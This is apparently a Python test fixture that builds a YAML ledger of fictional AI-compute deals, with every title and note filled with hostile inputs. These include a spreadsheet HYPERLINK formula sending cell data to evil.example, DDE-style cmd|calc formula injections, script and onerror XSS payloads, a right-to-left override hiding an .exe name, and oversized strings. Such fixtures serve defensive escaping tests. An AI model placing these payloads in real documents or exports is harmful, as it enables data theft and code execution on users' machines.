"""A small book written by somebody who wishes its readers ill, and the run of it."""

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
PLUS, AT, TAB = "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"
BACKWARDS = "\u202etxt.exe\u202c שלום עולם"
LONG = "long " * 9000
UNBROKEN = "Unbroken" * 50

WISHED = (FORMULA, SCRIPT, PLUS, AT, BACKWARDS)


def quoted(text):
    """A text for YAML."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


BOOK = f"""
book: {{title: {quoted(SCRIPT + FORMULA)}, as_of: 2026-01-01, start: 2026-01, months: 24}}
sources:
  paper: {{title: {quoted(FORMULA)}, publisher: {quoted(AT)}, date: 2025-01-01, note: {quoted(SCRIPT)},
           url: {quoted('https://example.org/"><script>alert(1)</script>')}}}
  other: {{title: {quoted(BACKWARDS)}, publisher: {quoted(PLUS)}, date: 2025-02-01, note: {quoted(LONG[:30_000])}}}
parties:
  lab:
    title: {quoted(FORMULA)}
    roles: [lab]
    cash: {{stated: 1 B USD, source: paper}}
  cloud:
    title: {quoted(SCRIPT)}
    roles: [cloud]
    cash: {{estimated: 1 to 2 B USD, source: other, because: {quoted(LONG)}}}
  maker: {{title: {quoted(BACKWARDS)}, roles: [chipmaker], cash: {{assumed: 5 B USD, because: {quoted(TAB)}}}}}
  unbroken: {{title: {quoted(UNBROKEN)}, roles: [cloud], cash: {{assumed: 1 B USD, because: x}}}}
deals:
  rent:
    title: {quoted(PLUS)}
    announced: 2026-01-01
    status: signed
    sources: [paper]
    contracts:
      compute: {{kind: plain-flow, payer: lab, payee: cloud, purpose: compute,
                 amount: {{assumed: 30 to 60 M USD/year, because: {quoted(SCRIPT)}}}}}
  more:
    title: {quoted(UNBROKEN)}
    announced: 2026-01-01
    status: signed
    contracts:
      compute: {{kind: plain-flow, payer: lab, payee: unbroken, purpose: compute,
                 amount: {{assumed: 9 M USD/year, because: {quoted(UNBROKEN)}}}}}
  shares:
    title: {quoted(AT)}
    announced: 2026-01-01
    status: signed
    contracts:
      equity: {{kind: equity-commitment, payer: maker, payee: lab,
                total: {{assumed: 100 M USD, because: {quoted(FORMULA)}}}, valuation: 1 B USD}}
"""
